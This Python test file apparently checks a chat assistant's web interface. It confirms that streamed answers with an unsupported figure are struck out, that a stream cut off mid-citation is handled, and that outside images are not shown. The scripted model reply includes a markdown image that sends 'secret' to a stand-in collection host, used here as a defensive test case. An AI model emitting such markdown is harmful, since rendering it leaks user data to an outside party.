"""Answers that a language model writes, as a reader sees them come."""

from __future__ import annotations

import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from fakes import CALIBRATION, FakeReranker, HashEmbedder
from scripted_llm import DROP, Script, event, id_of, says, scripted
from served import served
from visits import Visit, violations

from assistant.conversation import Conversation
from assistant.ingestion import ingest
from assistant.settings import load_settings
from assistant.web import words

DATA = Path(__file__).parents[1] / "data"
COST = "What did the bridge of glass in Velmora cost?"
COST_42 = "It cost 42 million crowns"
OpenPage = Callable[..., Visit]


def written(body: dict[str, Any]) -> Script:
    """One sound sentence, one with another figure, and a picture that would tell who reads it."""
    id_ = id_of(body, COST_42)
    return says(
        f"The bridge cost 42 million crowns. [{id_}] The bridge cost 43 million crowns. [{id_}] "
        "![seen](https://collect.example.net/?q=secret)"
    )


@pytest.fixture(scope="module")
def chat(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A chat whose model writes once, and is cut off in a marker ever after."""
    place = tmp_path_factory.mktemp("written")
    corpus = Path(shutil.copytree(DATA / "corpus", place / "corpus"))
    (place / "main.toml").write_text(f'corpus_dir = "{corpus}"\n')
    (place / "calibration.json").write_text(CALIBRATION.model_dump_json())
    cut = Script([event("The bridge cost 42 million crowns. [k"), DROP])
    with scripted(written, cut) as model, pytest.MonkeyPatch.context() as patched:
        patched.setenv("DIAMOND_LLM_KEY", "sk-test")
        settings = load_settings(
            indexes_dir=place,
            calibration=place / "calibration.json",
            data_dir=place,
            llm="openai:scripted",
            llm_base_url=model.address,
        )
        ingest(settings, load=lambda name, threads: HashEmbedder())
        conversation = Conversation.open(
            settings, lambda name, threads: HashEmbedder(), lambda name, threads: FakeReranker()
        )
        with served(conversation, settings) as address:
            yield f"{address}/"


def test_written_answers_are_checked_struck_and_replaced(visit: OpenPage) -> None:
    opened = visit()
    page = opened.page
    opened.ask(COST)
    struck = page.locator(".struck")
    assert struck.count() == 1
    assert "43 million" in struck.inner_text()
    assert words.NOT_FOUND in struck.inner_text()
    page.locator("a.cite").first.click()
    assert "42 million crowns" in page.locator("mark.lit, mark:focus").first.inner_text()
    assert page.locator(".answer img, .answer a[href*='collect']").count() == 0
    assert violations(opened) == []
    opened.ask(f"{COST} In crowns?", turn=1)
    assert "The bridge cost 42" not in page.locator(".answer").last.inner_text()
    assert page.locator(".note").last.is_visible()
    assert violations(opened) == []
    assert (opened.outside, opened.errors) == ([], [])
